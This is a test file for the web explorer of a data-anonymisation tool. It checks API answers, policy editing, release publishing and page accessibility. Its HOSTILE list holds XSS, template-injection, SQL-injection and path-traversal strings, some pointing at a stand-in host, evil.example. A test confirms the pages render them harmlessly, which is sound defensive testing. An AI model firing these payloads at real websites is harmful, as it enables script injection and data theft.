"""What the views of the explorer answer, and the pages in a browser, for everybody."""

import os
import re
import shutil
import threading
import time
from contextlib import contextmanager

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from tests.common import NIGHTLY
from tests.explore.conftest import POLICY, Place, View, serving

import foreknow as fk
from foreknow.features.explore.publish import Press
from foreknow.features.explore.server import VIEWS, application
from foreknow.features.explore.session import Session
from foreknow.toml import toml_value

# ---- where it begins -----------------------------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no named pipes")
@pytest.mark.parametrize("name", ["t.sqlite", "t.xlsx?sheet=a", "p.toml"])
def test_a_pipe_stops_nobody(tmp_path, name):
    (tmp_path / "table.csv").write_text("age,disease\n" + "30,flu\n40,cold\n" * 5)
    file = name.partition("?")[0]
    os.mkfifo(tmp_path / file)
    browser, answers = Place(tmp_path).browser(), []

    def ask():
        paths = ("choices", f"columns?of={name}", f"policy?of={name}", "columns?of=table.csv")
        answers.extend(browser.ask(f"/api/{path}") for path in paths)

    asking = threading.Thread(target=ask, daemon=True)
    asking.start()
    asking.join(20)
    assert [answer.status for answer in answers] == [200, 400, 400, 200]
    assert file not in answers[0].text


RULES = """[schema]
quasi_identifiers = ["ward"]
sensitive = "ill"

[[require]]
facts = { l = 0 }
below = "1/2"
"""
SAFE, UNSAFE = "ward,ill\na,1\na,2\na,3\n", "ward,ill\na,1\na,1\na,1\n"


def test_changed_files_are_judged_anew(tmp_path):
    """A table, a file that the policy names, and a release that is written anew."""
    table, rules = tmp_path / "table.csv", tmp_path / "policy.toml"
    table.write_text(SAFE)
    rules.write_text(RULES)
    page = Place(tmp_path, table, rules).browser()
    assert page.ask("/api/release").json["mood"] == "safe"
    table.write_text(UNSAFE)
    assert page.ask("/api/release").json["mood"] == "unsafe"
    assert page.ask("/api/release/judged?value=1").json["mood"] == "unsafe"
    table.write_text(SAFE)
    tree = RULES.replace("facts", 'any_of = "bad"\nfacts')
    tree += '\n[schema.hierarchies]\nill = { file = "codes.csv" }\n'
    (tmp_path / "codes.csv").write_text("1;bad;*\n2;good;*\n3;good;*\n")
    page.post("/api/policy/written", {"text": tree})
    assert page.ask("/api/release").json["mood"] == "safe"
    (tmp_path / "codes.csv").write_text("1;bad;*\n2;bad;*\n3;good;*\n")
    assert page.ask("/api/release").json["mood"] == "unsafe"
    for ill in ("12345", "112345"):
        for name in ("out", "out.owner"):
            shutil.rmtree(tmp_path / name, ignore_errors=True)
        rows = pa.table({"ward": ["a"] * len(ill), "ill": list(ill)})
        fk.publish(rows, fk.Policy.load(rules), seed=1).write(tmp_path / "out")
        result = page.ask("/api/release?of=out").json["notes"]
        assert f"The smallest group has {len(ill)} people." in result


# ---- columns -------------------------------------------------------------------------------------


HEAD = "name,age,zip,day,ill\n"
ROWS = [
    f"P{i},{20 + i % 40},0{2138 + i % 3},2024-{1 + i % 12:02d}-03,{'abcd'[i % 4]}"
    for i in range(80)
]


@pytest.fixture
def table(tmp_path):
    (tmp_path / "t.csv").write_text(HEAD + "\n".join(ROWS), encoding="utf-8")
    place = Place(tmp_path, tmp_path / "t.csv")
    browser = place.browser()
    browser.session = place.session
    return browser


def column(found, name):
    return next(each for each in found["columns"] if each["name"] == name)


def test_setting_roles_keeps_comments(table):
    before = table.ask("/api/policy").json["text"]
    body = {"column": "zip", "role": "other"}
    answer = table.post("/api/columns/settled", body).json
    assert column(answer, "zip")["role"] == "other"
    text = table.ask("/api/policy").json["text"]
    assert 'other = [\n  "zip",  # 3 values\n]' in text
    kept = [line for line in before.splitlines() if line.startswith("# Nobody is alone")]
    assert kept
    assert set(kept) <= set(text.splitlines())
    policy = table.session.draft("t.csv").policy
    assert policy.schema.other == ("zip",)
    assert "zip" not in policy.schema.hierarchies
    body = {"column": "day", "role": "quasi-identifier", "hierarchy": {"dates": ["year"]}}
    answer = table.post("/api/columns/settled", body).json
    assert column(answer, "day")["coarsens"] == "by year"
    assert table.ask("/api/release").status == 200


def test_levels_and_gaps_are_shown(table, tmp_path):
    def preview(column, hierarchy):
        return table.post("/api/columns/preview", {"column": column, "hierarchy": hierarchy})

    answer = preview("age", {"intervals": [5, 20]}).json
    assert (answer["covered"], answer["left"]) == (40, 0)
    assert answer["levels"]["rows"][0] == ["20", "20 to 24", "20 to 39", "*"]
    assert answer["levels"]["rows"][-1] == ["how many", "8", "2", "1"]
    answer = preview("zip", {"mask": 5}).json
    assert answer["levels"]["rows"][0][:3] == ["02138", "0213*", "021**"]
    (tmp_path / "h.csv").write_text("02138;south;*\n02139;south;*\n", encoding="utf-8")
    answer = preview("zip", {"file": "h.csv"}).json
    assert (answer["covered"], answer["left"], answer["missing"]) == (2, 1, ["02140"])
    assert "02140" in answer["why"]
    for wrong in ({"mask": 0}, {"masks": 5}, {"file": "../h.csv"}, {"intervals": ["x"]}, [], "x"):
        assert preview("zip", wrong).status == 400, wrong
    assert preview("nothing", {"mask": 2}).status == 400


def test_wrong_changes_are_refused(table):
    for body in ({"column": "age"}, {"column": "x", "role": "other"}, {"column": 1, "role": []}):
        assert table.post("/api/columns/settled", body).status == 400


# ---- releases ------------------------------------------------------------------------------------


def test_answers_are_those_of_commands(inside, folder):
    answer = inside.ask("/api/release/judged?requirement=2&l=1&k=3&m=1").json
    audit = fk.audit(folder / "out", fk.Policy.load(folder / "policy.toml"), learned=False)
    second = audit.verdicts[1]
    assert answer["mood"] == ("safe" if second.safe else "unsafe")
    assert (
        answer["sentence"] in audit.summary().replace("\n", " ")
        or second.value in answer["sentence"]
    )
    assert inside.ask("/api/release/judged?requirement=2&l=9999999").status == 400
    assert inside.ask("/api/release/judged?requirement=7").status == 400
    assert inside.ask("/api/release/judged?value=Nonsense").status == 400


def test_owners_statements_agree_with_ask(inside, folder):
    name = (folder / "hospital.csv").read_text("utf-8").splitlines()[1].split(",")[0]
    body = {"about": name, "statements": f'"{name}" != Flu\n# a remark\n'}
    told = inside.post("/api/release/asked", body).json["answers"]
    release = fk.named_release(folder / "out")
    posteriors = fk.Statements(f'"{name}" != Flu').posteriors(release, people=[name])[name]
    assert len(told["rows"]) == len(posteriors)
    values = {value: answer.probability for value, answer in posteriors.items()}
    for value, _, after in told["rows"]:
        assert float(after["width"]) == pytest.approx(100 * values[value], abs=0.01)
    for wrong in (
        {"about": "", "statements": ""},
        {"about": name, "statements": "Tom !="},
        {"about": 1},
    ):
        assert inside.post("/api/release/asked", wrong).status == 400


def test_statements_know_columns_beside(tmp_path):
    """A raw table shows whose job is which; of a release, the answer says that nobody knows."""
    rows = [
        "Ann,1,x,HIV",
        "Bob,1,x,Flu",
        "Cid,1,y,Flu",
        "Dan,1,y,Flu",
        "Eve,1,y,Cold",
        "Fay,1,x,Cold",
    ]
    (tmp_path / "table.csv").write_text("\n".join(["name,zip,job,ill", *rows, ""]))
    (tmp_path / "policy.toml").write_text(
        """
        [schema]
        identifiers = ["name"]
        quasi_identifiers = ["zip"]
        sensitive = "ill"
        other = ["job"]
        [[require]]
        facts = {}
        below = 0.9
        """
    )
    table, policy = tmp_path / "table.csv", tmp_path / "policy.toml"
    fk.publish(table, policy).write(tmp_path / "out")
    for path, unknown, share in ((table, "", 100 / 3), (tmp_path / "out", "job", 100 / 6)):
        inside = Place(tmp_path, path, policy).browser()
        answer = inside.post("/api/release/asked", {"about": "Ann", "statements": ""}).json
        (width,) = {row[2]["width"] for row in answer["answers"]["rows"] if row[0] == "HIV"}
        assert (answer["unknown"], float(width)) == (unknown, pytest.approx(share, abs=0.01))


# ---- what is made --------------------------------------------------------------------------------


@pytest.fixture
def own(tmp_path, folder):
    for name in ("hospital.csv", "marital.csv", "policy.toml"):
        (tmp_path / name).write_bytes((folder / name).read_bytes())
    return tmp_path


@pytest.fixture
def browser(own):
    place = Place(own, own / "hospital.csv", own / "policy.toml")
    press = Press(place.session)
    place.guard._app = application(place.session, press)
    yield place.browser()
    press.close()
    assert not [name for name in os.listdir(own) if name.startswith(".foreknow")]


def waited(browser, seconds=300):
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        answer = browser.ask("/api/publish/state").json
        if not answer["running"]:
            return answer
        time.sleep(0.1)
    raise AssertionError("it takes too long")


def test_releases_are_made_and_written(browser, own):
    assert browser.post("/api/publish/start", {"method": "mondrian"}).json["running"]
    assert browser.post("/api/publish/start", {"method": "mondrian"}).status == 400
    (made,) = waited(browser)["trials"]
    assert made["state"] == "made", made
    assert made["mood"] == "safe"
    assert sorted(os.listdir(own))[1:] == ["hospital.csv", "marital.csv", "policy.toml"]
    answer = browser.ask("/api/release?of=" + made["name"].replace(" ", "%20")).json
    assert answer["published"]
    assert answer["mood"] == "safe"
    told = browser.ask("/api/publish/compared?a=0&b=1").json
    rows = {row[0]: row[1:] for row in told["table"]["rows"]}
    assert rows["People"] == ["4,000", "4,000"]
    assert [cell["mood"] for cell in rows["Verdict"]] == ["unsafe", "safe"]
    assert rows["Against an adversary who knows the method"] == ["not judged"] * 2
    for wrong in ("../out", "hospital.csv", ".x", "CON", "nul.x", "", None, "a/b", "x" * 200):
        assert browser.post("/api/publish/write", {"trial": "1", "folder": wrong}).status == 400
    written = browser.post("/api/publish/write", {"trial": "1", "folder": "made"}).json
    assert written["trials"][0]["written"] == "made"
    assert browser.post("/api/publish/write", {"trial": "1", "folder": "again"}).status == 400
    fk.verify(own / "made")
    assert (own / "made.owner" / "members.parquet").is_file()
    assert browser.ask("/api/release?of=made").json["names"]


NEARLY = "knowing = []\nfacts = {}\nbelow = 0.9\n"
OF_ILL = (
    'sensitive = "ill"\nmissing = MISSING\nreading = { missing = ["NA"] }\n[[require]]\n' + NEARLY
)
OF_PAY = 'sensitive = ["ill", "pay"]\nSHARED\n[[require]]\nsensitive = "ill"\n' + NEARLY
EXACT = '[publish]\nlabels = { age = "exact" }\n'
HOMES = 'shared = { by = "home", values = ["pay"] }'


@pytest.mark.thinned(2)  # each begins a process
@pytest.mark.parametrize(
    ("policy", "column", "shown", "last"),
    [
        (
            OF_ILL.replace("MISSING", '{ label = "unknown" }') + EXACT,
            *("ill", "→ unknown, mixed in the group", "4 people"),
        ),
        (OF_ILL.replace("MISSING", '"drop"') + EXACT, "ill", None, "left out"),
        (OF_PAY.replace("SHARED", HOMES), "pay", "once for each household", None),
        (
            OF_PAY.replace("SHARED", "") + "[publish]\nround = { pay = 100 }\n",
            *("pay", "the nearest multiple of 100", None),
        ),
    ],
    ids=["labelled", "dropped", "shared", "rounded"],
)
def test_people_appear_as_published(tmp_path, policy, column, shown, last):
    """With the label of the policy, or left out; not with a number that is nowhere published."""
    ills = ["Flu", "Cold", "NA", ""] * 2 if column == "ill" else [f"x{i % 4}" for i in range(16)]
    rows = "".join(
        f"p{i},h{i // 2},{20 + (i // 4 * 30 if column == 'ill' else i)},{310 + i // 2},{ill}\n"
        for i, ill in enumerate(ills)
    )
    (tmp_path / "table.csv").write_text(f"pid,home,age,pay,ill\n{rows}")
    roles = '[schema]\nidentifiers = ["pid"]\nquasi_identifiers = ["age"]\n'
    (tmp_path / "policy.toml").write_text(roles + policy)
    place = Place(tmp_path, tmp_path / "table.csv", tmp_path / "policy.toml")
    press = Press(place.session)
    place.guard._app = application(place.session, press)
    browser = place.browser()
    browser.post("/api/publish/start", {"method": "mondrian"})
    (made,) = waited(browser)["trials"]
    assert made["state"] == "made", made
    _, people = browser.ask("/api/publish/compared?a=0&b=1").json["people"]
    press.close()
    at = people["head"].index(column)
    values = [(row[at], row[-1]) for row in people["rows"]]
    if column == "ill":
        values = [pair for pair in values if "missing" in str(pair[0])]
        assert len(values) == 4
    for value, size in values:
        assert last in (None, size)
        assert value == "missing" if shown is None else shown in value["below"]


def test_cancelled_nothing_is_left(browser, own):
    browser.post("/api/publish/start", {"method": "fulldomain"})
    (left,) = browser.post("/api/publish/cancel", {}).json["trials"]
    assert left["state"] == "cancelled"
    assert browser.post("/api/publish/write", {"trial": "1", "folder": "x"}).status == 400


def test_failed_search_names_ways_out(browser):
    browser.post("/api/publish/start", {"method": "anatomy", "form": "bucketized"})
    (none,) = waited(browser)["trials"]
    assert none["state"] == "none"
    assert "Anatomy" in none["why"][0]
    wrong = [{}, {"method": "x"}, {"method": 5}, {"method": "mondrian", "form": "x"}]
    wrong += [{"method": "mondrian", "settings": said} for said in ("suppresion = 1", "x", "= 5")]
    for given in wrong:
        assert browser.post("/api/publish/start", given).status == 400, given


# ---- browser -------------------------------------------------------------------------------------


@contextmanager
def opened(chromium, folder, table="hospital.csv", policy="policy.toml"):
    """A view of a table and its policy, of which the browser complains at no time."""
    with serving(Session(folder, folder / table, folder / policy)) as (base, keys):
        view = View(chromium, base)
        view.open(f"/?token={keys.token}")
        yield view
        assert view.said == []
        view.context.close()


def until(page, script, seconds=60):
    """Wait for what a page says of itself; its own policy lets nothing wait in it."""
    end = time.monotonic() + seconds
    while not page.evaluate(script):
        assert time.monotonic() < end, script
        page.wait_for_timeout(20)


def until_text(page, text):
    until(page, f"document.querySelector('#text').value.includes({text!r})")


def expect(locator):
    return pytest.importorskip("playwright.sync_api").expect(locator)


READY = {
    "start": ("/?all=", "#choices li"),
    "columns": ("/columns?of=hospital.csv&column=zip", "#levels td"),
    "policy": ("/policy?of=hospital.csv", "#field-require-0-below"),
    "publish": ("/publish?of=hospital.csv", "#about:not(:empty)"),
    "release": ("/release?of=out&value=HIV", "#points button"),
    "trials": ("/trials?of=out", "#by input"),
}
PAGE_RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "best-practice"]


def test_every_view_is_looked_at():
    assert {*READY} == {"start", *VIEWS}


@pytest.mark.parametrize("name", READY)
def test_a_view_is_for_everybody(view, name):
    """By axe-core: by day each in one of two ways, large and light, or at 400 px and dark."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    path, ready = READY[name]
    page = view.open(path)
    page.wait_for_selector(ready)
    for landmark in ("header", "nav[aria-label]", "main", "footer", "h1"):
        assert page.locator(landmark).count() == 1, landmark
    assert page.title() != "Foreknow"
    ways = [(1280, "light"), (400, "dark")]
    for width, scheme in ways if NIGHTLY else [ways[list(READY).index(name) % 2]]:
        page.emulate_media(color_scheme=scheme)
        page.set_viewport_size({"width": width, "height": 800})
        result = axe.run(page, options={"runOnly": PAGE_RULES}).response["violations"]
        serious = [each["id"] for each in result if each["impact"] != "minor"]
        wide = page.evaluate("document.documentElement.scrollWidth")
        page.emulate_media(color_scheme="light")
        page.set_viewport_size({"width": 1280, "height": 900})
        assert serious == []
        assert wide <= width


# Texts that would be noticed if they were ever read as HTML, an address, a formula or a script.
RUN = "window.hurt=(window.hurt||0)+1"
HOSTILE = [
    *(f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>"),
    *(f'"><b onmouseover={RUN}>b</b>', f"' onfocus='{RUN}' autofocus='", f"javascript:{RUN}"),
    *(f"</script><script>{RUN}</script>", f"</option></select><img src=x onerror={RUN}>"),
    *(f"</title><script>{RUN}</script>", f"<a href='javascript:{RUN}'>go</a>"),
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    *("<base href=http://evil.example/>", f"<details open ontoggle={RUN}>"),
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button autofocus>",
    f"<math><mtext></form><img src=x onerror={RUN}>",
    *(f"<video><source onerror={RUN}>", f"<object data='javascript:{RUN}'>"),
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    *(f"${{{RUN}}}", "{% raw %}{{ 7*7 }}", '=HYPERLINK("http://evil.example")', "@SUM(1)"),
    *("&lt;b&gt;&amp;#60;", "%3Cscript%3E", "a&of=../x&limit=1#x?y=z+%", "\u202eevil\u202c"),
    *("\u200b\u200d", "a\tb\nc", "__proto__", "constructor", "toString", "hasOwnProperty", "null"),
    *("undefined", "NaN", "true", "[object Object]", "' OR 1=1 --", '"; DROP TABLE people; --'),
    *("../../etc/passwd", "\\", "\\u003cscript\\u003e", "x" * 300, "😀" * 20, "שלום", "ﷺ"),
]


def test_hostile_names_do_nothing(chromium, tmp_path):
    """Fifty names of columns and values, and a release of them."""
    assert len(HOSTILE) == 50
    columns = {"disease": [HOSTILE[i % 50] for i in range(400)]}
    for i, name in enumerate(HOSTILE):
        columns[f"{name}{i}"] = [HOSTILE[(j // 4 + i) % 50] for j in range(400)]
    pq.write_table(pa.table(columns), tmp_path / "t.parquet")
    _, *names = columns
    schema = fk.Schema(quasi_identifiers=names[:6], sensitive="disease", other=names[6:])
    rule = fk.Requirement(fk.Facts(1, 1, 1), below="1/2", name=HOSTILE[0])
    table = fk.Policy([rule], schema).to_dict()["schema"]
    rules = f"schema = {toml_value(table)}\nrequire = [{{ name = {toml_value(HOSTILE[0])}, "
    rules += 'facts = { l = 1, k = 1, m = 1 }, below = "1/2" }]\n'
    (tmp_path / "p.toml").write_text(rules, encoding="utf-8")
    with opened(chromium, tmp_path, "t.parquet", "p.toml") as view:
        asked = []
        view.page.on("request", lambda request: asked.append(request.url))
        page = view.open("/release")
        page.wait_for_selector("#groups tbody tr")
        for value in HOSTILE[:3]:
            page.select_option("#value", value)
            expect(page.locator("#said")).to_have_text(re.compile(r"[\s\S]{10}"))
        page.wait_for_timeout(300)
        assert page.evaluate("window.hurt") is None
        hurt = "main :is(script, img, iframe, a, b, style, link, base)"
        assert page.locator(hurt).count() == 0
        assert all(url.startswith(view.base) for url in asked)
        assert HOSTILE[1] in page.inner_text("#value")
        assert HOSTILE[0] in page.inner_text("#requirement")


# ---- a policy ------------------------------------------------------------------------------------


def test_refused_policy_shows_ways_out(chromium, stays):
    (stays / "policy.toml").write_text(POLICY.replace('"case"', '"who"'))
    with serving(Session(stays, stays / "stays.csv", stays / "policy.toml")) as (base, keys):
        view = View(chromium, base)
        view.open(f"/?token={keys.token}")
        page = view.open("/release")
        page.wait_for_selector("#refused button")
        assert page.locator("main h2:visible").count() == 0
        assert page.locator("#trouble").is_hidden()
        page.get_by_role("button", name="Rows are cases").click()
        page.wait_for_selector("#verdicts td")
        assert page.locator("#refused").is_hidden()
        page = view.open("/columns")
        page.select_option("#role-4", "")
        page.wait_for_selector("#mistake:visible")
        page = view.open("/release")
        page.get_by_role("button", name="Undo the last change").click()
        page.wait_for_selector("#verdicts td")
        view.context.close()


@pytest.mark.parametrize("width", [1280, 400] if NIGHTLY else [400])
def test_person_says_all_of_it(chromium, stays, width):
    with opened(chromium, stays, "stays.csv") as view:
        page = view.page
        page.set_viewport_size({"width": width, "height": 900})
        page.wait_for_url("**/columns*")
        page.select_option("#role-5", "sensitive")
        until(page, "document.querySelector('#undo').disabled === false")
        view.open("/policy")
        page.select_option("#field-require-0-secret", "any_of")
        page.fill("#field-require-0-any_of", "flu, cold")
        page.press("#field-require-0-any_of", "Tab")
        until_text(page, "any_of")
        page.select_option("#field-require-0-known", "none")
        until_text(page, "knowing = []")
        page.select_option("#field-require-0-sensitive", "income")
        # A field that nobody is in is drawn anew by the answer; the schema has "income" before it.
        until_text(page, 'sensitive = "income"')
        page.select_option("#field-require-0-secret", "within")
        until_text(page, "within")
        page.fill("#rule-values", "1000")
        page.select_option("#rule-column", "age")
        page.fill("#rule-where", "to 11")
        page.click("#rule-add")
        page.wait_for_selector("#field-schema-impossible-0-values")
        assert "{ age = { to = 11 } }" in page.input_value("#text")
        page.click("#undo")
        page.wait_for_selector("#field-schema-impossible-0-values", state="detached")
        assert page.locator("#words td p").count() > 5  # a line for each
        assert "below = 0.9\n" in page.input_value("#text")  # a number is one still
        for path in ("/release", "/publish", "/trials", "/columns", "/?all="):
            view.open(path)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("document.documentElement.scrollWidth") <= width
            assert page.locator("#trouble").is_hidden(), page.inner_text("#trouble")
